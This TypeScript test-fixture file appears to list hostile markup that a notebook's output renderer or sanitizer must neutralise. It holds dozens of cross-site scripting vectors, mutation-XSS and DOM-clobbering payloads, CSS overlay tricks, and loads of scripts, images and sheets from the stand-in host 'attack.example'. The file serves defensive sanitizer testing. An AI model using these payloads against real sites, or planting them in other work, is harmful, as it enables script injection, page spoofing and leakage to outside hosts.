/** What a hostile notebook may hold: each sets a flag, or loads something. */

const RUN = "parent.ran=window.ran=(window.ran||0)+1";
const FAR = "http://attack.example";
const SVG =
  `xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"`;

/** What would lie over the page or hide its parts. */
const BOX = `<a href="http://attack.example">over it</a>`;
export const COVERS: [name: string, markup: string][] = [
  ["string that ends at a form feed", `a{content:"\f} } X z{a:" }`],
  ["string that ends at a carriage return", `a{content:"\r} } X z{a:" }`],
  ["comment in a string", `a{content:"/*"} } X z{a:"*/" }`],
  ["escaped brace", `a{b:\\7d } X`],
  ["reference in an SVG", `a{content:"&quot } } X z{a:&quot" }`],
  ["not closed", `a{b:url( } } X`],
].map(([name, css]): [string, string] => {
  const sheet = css.replace("X", ".banner,.cell,main{display:none!important}");
  return [
    `style sheet: ${name}`,
    `<style>${sheet}</style><svg><style>${sheet}`,
  ];
}).concat([
  ["position by a variable", `position:var(--p);--p:fixed`],
  ["position by a default", `position:var(--q, fixed)`],
  ["position by the environment", `position:env(x,fixed)`],
  ["position with a comment", `position:/**/fixed`],
  ["position in capitals", `POSITION:Fixed!important`],
  ["position with an escape", `p\\6fsition:fixed`],
  ["absolute position", `position:absolute`],
  ["sticky position", `position:sticky`],
  ["negative margin", `margin:-900px;position:relative`],
  ["moved", `transform:translate(-300px,-900px);position:relative;z-index:9`],
  ["anchored", `position:absolute;position-anchor:--a;all:initial`],
].flatMap(([name, css]): [string, string][] => {
  const rest = `inset:0;width:3000px;height:3000px;z-index:99;background:red`;
  return [
    [name, BOX.replace("<a ", `<a style="${css};${rest}" `)],
    [`${name}, by a sheet`, `${BOX}<style>a{${css};${rest}}</style>`],
    [`${name}, of the whole`, `${BOX}<style>:scope,*{${css};${rest}}</style>`],
  ];
}));

/** Markup of outputs; `true` where a browser runs or loads it unaided. */
export const ATTACKS: [name: string, markup: string, unaided?: true][] = [
  ["script", `<script>${RUN}</script>`, true],
  ["script from far", `<script src="${FAR}/1.js"></script>`, true],
  ["script in odd case", `<ScRiPt >${RUN}</sCrIpT >`, true],
  [
    "script after a null",
    `<scr\0ipt>${RUN}</script><script\t>${RUN}</script\n>`,
  ],
  ["module", `<script type="module">${RUN}</script>`, true],
  ["img onerror", `<img src=x: onerror="${RUN}">`, true],
  ["img onerror, slashes", `<img/src=x:/onerror=${RUN}>`, true],
  ["svg onload", `<svg onload="${RUN}"></svg>`, true],
  ["body onload", `<body onload="${RUN}" onpageshow="${RUN}">`],
  [
    "details ontoggle",
    `<details open ontoggle="${RUN}"><summary>x</summary></details>`,
    true,
  ],
  [
    "focus",
    `<input autofocus onfocus="${RUN}"><a href="#" autofocus onfocus="${RUN}">x</a>`,
  ],
  [
    "tabindex and focus",
    `<p tabindex=0 onfocus="${RUN}" onmouseover="${RUN}">x</p>`,
  ],
  [
    "animation",
    `<style>@keyframes z{}</style><b style="animation:z" onanimationstart="${RUN}">x</b>`,
  ],
  ["video onerror", `<video><source onerror="${RUN}" src=x:></video>`, true],
  ["javascript link", `<a id=go href="javascript:${RUN}">x</a>`],
  [
    "javascript link, entities",
    `<a href="java&#x09;script&colon;${RUN}">x</a>`,
  ],
  [
    "javascript link, capitals and spaces",
    `<a href=" \n JaVaScRiPt:${RUN}">x</a>`,
  ],
  [
    "javascript in svg",
    `<svg ${SVG}><a xlink:href="javascript:${RUN}"><text y="9">x</text></a></svg>`,
  ],
  [
    "vbscript and data links",
    `<a href="vbscript:x">x</a><a href="data:text/html,<script>${RUN}</script>">y</a>`,
  ],
  ["svg script", `<svg ${SVG}><script>${RUN}</script></svg>`, true],
  [
    "svg script from far",
    `<svg ${SVG}><script href="${FAR}/2.js"/></svg>`,
    true,
  ],
  [
    "svg script in CDATA",
    `<svg ${SVG}><script><![CDATA[${RUN}]]></script></svg>`,
    true,
  ],
  [
    "foreignObject",
    `<svg ${SVG}><foreignObject><img src=x: onerror="${RUN}"></foreignObject></svg>`,
    true,
  ],
  [
    "svg animate to javascript",
    `<svg ${SVG}><a><animate attributeName="href" values="javascript:${RUN}"/><text y="9">x</text></a></svg>`,
  ],
  [
    "svg set onmouseover",
    `<svg ${SVG}><set attributeName="onmouseover" to="${RUN}"/><rect width="9" height="9"/></svg>`,
  ],
  ["use from far", `<svg ${SVG}><use href="${FAR}/3.svg#a"/></svg>`],
  [
    "use of data",
    `<svg ${SVG}><use href="data:image/svg+xml,<svg id='a' xmlns='http://www.w3.org/2000/svg'><script>${RUN}</script></svg>#a"/></svg>`,
  ],
  [
    "image from far",
    `<svg ${SVG}><image href="${FAR}/4.png" width="1" height="1"/></svg>`,
    true,
  ],
  [
    "feImage from far",
    `<svg ${SVG}><filter id="f"><feImage href="${FAR}/5.png"/></filter><rect width="9" height="9" filter="url(#f)"/></svg>`,
    true,
  ],
  ["img from far", `<img src="${FAR}/6.png" srcset="${FAR}/7.png 2x">`, true],
  [
    "style expression",
    `<b style="width:expression(${RUN});behavior:url(${FAR}/8)">x</b>`,
  ],
  ["style url", `<b style="background:url(${FAR}/9.png)">x</b>`, true],
  [
    "style url, escaped",
    `<b style="background:u\\72l(${FAR}/10.png)">x</b>`,
    true,
  ],
  [
    "style image-set",
    `<b style="background-image:image-set('${FAR}/11.png' 1x)">x</b>`,
    true,
  ],
  ["style sheet", `<style>body{background:url(${FAR}/12.png)}</style>`, true],
  ["style import", `<style>@import "${FAR}/13.css";</style>`, true],
  [
    "style in svg, entities",
    `<svg ${SVG}><style>rect{fill:url&#40;${FAR}/14)}</style></svg>`,
  ],
  ["style that leaves its scope", `<style>} main{display:none} .x{</style>`],
  [
    "fixed cover",
    `<div style="position:fixed;inset:0;background:red;z-index:9">x</div>`,
  ],
  ...COVERS,
  [
    "font face",
    `<style>@font-face{font-family:z;src:url(${FAR}/15.woff)}b{font-family:z}</style><b>x</b>`,
    true,
  ],
  [
    "presentation attribute",
    `<svg ${SVG}><rect width="9" height="9" mask="u\\72l(${FAR}/16#m)" cursor="url(${FAR}/17),auto"/></svg>`,
  ],
  [
    "link",
    `<link rel="stylesheet" href="${FAR}/18.css"><link rel="prefetch" href="${FAR}/19">`,
    true,
  ],
  ["meta refresh", `<meta http-equiv="refresh" content="0;url=${FAR}/20">`],
  ["base", `<base href="${FAR}/"><img src="21.png">`],
  ["iframe srcdoc", `<iframe srcdoc="<script>${RUN}</script>"></iframe>`, true],
  ["iframe javascript", `<iframe src="javascript:${RUN}"></iframe>`, true],
  [
    "iframe data",
    `<iframe src="data:text/html,<script>${RUN}</script>"></iframe>`,
  ],
  [
    "form",
    `<form action="${FAR}/22"><button formaction="javascript:${RUN}">x</button></form>`,
  ],
  [
    "object and embed",
    `<object data="${FAR}/23"></object><embed src="${FAR}/24">`,
  ],
  [
    "mXSS noscript",
    `<noscript><p title="</noscript><img src=x: onerror=${RUN}>"></noscript>`,
  ],
  [
    "mXSS template",
    `<template><script>${RUN}</script></template><svg><template><img src=x: onerror=${RUN}></template></svg>`,
  ],
  [
    "mXSS math",
    `<math><mtext><table><mglyph><style><img title="</style><img src=x: onerror=${RUN}>"></style></mglyph></table></mtext></math>`,
  ],
  [
    "mXSS svg style",
    `<svg></p><style><a id="</style><img src=x: onerror=${RUN}>">`,
  ],
  [
    "mXSS title",
    `<svg><title><p title="</title><img src=x: onerror=${RUN}>"></p></title></svg>`,
  ],
  [
    "mXSS textarea",
    `<textarea><p title="</textarea><img src=x: onerror=${RUN}>">`,
    true,
  ],
  [
    "mXSS comment",
    `<!--><img src=x: onerror=${RUN}>--><!-- --!><img src=x: onerror=${RUN}> -->`,
    true,
  ],
  [
    "mXSS select",
    `<select><style></select><img src=x: onerror=${RUN}></style></select>`,
  ],
  [
    "mXSS backtick and quotes",
    "<p title='\"><img src=x: onerror=" + RUN + ">' class=`x`>x</p>",
  ],
  [
    "mXSS plaintext",
    `<xmp><p title="</xmp><img src=x: onerror=${RUN}>"></xmp>`,
    true,
  ],
  [
    "shadow root",
    `<div><template shadowrootmode="open"><img src=x: onerror="${RUN}"></template></div>`,
  ],
  [
    "closes our tags",
    `</div></section></main></body></html><script>${RUN}</script></scRIPt ></style><script>${RUN}</script>`,
    true,
  ],
  [
    "clobbering",
    `<img name="querySelectorAll" id="ui--code"><form id="documentElement" name="body"></form><a id="main--" name="getElementById" href="x:y"></a><p id="ui--dark">x</p>`,
  ],
  [
    "clobbered title of a mark",
    `<svg ${SVG}><g><title><img src=x: onerror=${RUN}>&lt;img src=x: onerror=${RUN}&gt;</title><rect width="40" height="40"/></g></svg>`,
  ],
  ["open comment", `<!-- <script>${RUN}</script>`],
  [
    "mXSS form",
    `<form><math><mtext></form><form><mglyph><style></math><img src=x: onerror=${RUN}>`,
  ],
  [
    "mXSS desc",
    `<svg><desc><style><a title="</style><img src=x: onerror=${RUN}>"></desc></svg>`,
  ],
  [
    "mXSS CDATA",
    `<svg><text><![CDATA[</text></svg><img src=x: onerror=${RUN}>]]></text></svg>`,
  ],
  [
    "mXSS foreign table",
    `<svg><g><table><tr><td><style><!--</style><img src=x: onerror=${RUN}>--></table></g></svg>`,
  ],
  ["image of old", `<image src="${FAR}/25.png" onerror="${RUN}">`, true],
  ["lowsrc", `<img src=x: srcset="${FAR}/26.png, ${FAR}/27.png 2x">`, true],
  ["picture", `<picture><source srcset="${FAR}/28.png"><img></picture>`, true],
  ["ping", `<a href="#x" ping="${FAR}/29" attributionsrc="${FAR}/30">x</a>`],
  [
    "popover and dialog",
    `<div popover id=p onbeforetoggle="${RUN}">x</div><dialog open oncancel="${RUN}">x</dialog><button popovertarget=p command=show-popover commandfor=p interestfor=p>x</button>`,
  ],
  [
    "transition and scroll",
    `<b style="transition:all 1s" ontransitionrun="${RUN}" onscrollend="${RUN}" oncontentvisibilityautostatechange="${RUN}">x</b>`,
  ],
  [
    "xml base and events",
    `<svg ${SVG} xml:base="javascript:${RUN}//"><a xlink:href="#"><text y="9">x</text></a><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${RUN}</handler></svg>`,
  ],
  [
    "mathml link",
    `<math><maction actiontype="statusline" xlink:href="javascript:${RUN}">x</maction><mi href="javascript:${RUN}">y</mi></math>`,
  ],
  [
    "sheet that asks far",
    `<style>@layer a{p{background:url(${FAR}/31)}}@supports(a:b){@import "${FAR}/32";}@namespace url(${FAR}/33);p:has(b){cursor:image-set("${FAR}/34" 1x)}@property --x{syntax:"<url>";inherits:true;initial-value:url(${FAR}/35)}</style><p><b>x</b></p>`,
  ],
  [
    "rules of speculation",
    `<script type="speculationrules">{"prefetch":[{"urls":["${FAR}/36"]}]}</script><script type="importmap">{"imports":{"a":"${FAR}/37"}}</script>`,
  ],
  [
    "a figure of the page",
    `<figure class=numbered><svg></svg><figcaption>x</figcaption></figure><nav><a href="#%">x</a></nav><style>.power{color:red}</style>`,
  ],
];

/** Markup for names, text and attachments. */
export const TEXT =
  `</title></scRIPt ></style>"><img src=x: onerror="${RUN}"><script>${RUN}</script>`;
